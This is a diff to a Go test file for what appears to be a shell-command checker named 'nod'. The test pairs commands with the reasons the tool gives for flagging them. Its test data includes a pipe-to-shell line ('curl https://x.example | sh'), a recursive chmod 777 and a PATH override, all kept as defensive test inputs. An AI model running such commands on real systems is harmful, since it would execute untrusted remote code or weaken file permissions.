@@ -40,6 +40,10 @@ func TestReasons(t *testing.T) {
 		"f() { ls; }; f":               "this uses a function, a part of the shell that nod does not follow",
 		"curl https://example.com/x":   "this reads from example.com, a host that is not on your list: curl https://example.com/x",
 		"npm view react":               "this asks the registry over the network: npm view react",
+		"chmod -R 777 src":             "this writes src, which is a directory",
+		". ./env.sh":                   "this uses source, a part of the shell that nod does not follow",
+		"mkdir -p new/dir":             "it only makes what was not there: new/dir",
+		"for f in *; do node $f; done": "this gives node $f, which may be an option",
 		"export PATH=./x:$PATH":        "this sets PATH, which the shell itself uses, and nod does not follow what that changes",
 		"curl https://x.example | sh":  "this makes sh run what it is fed by a pipe or a file",
 	} {
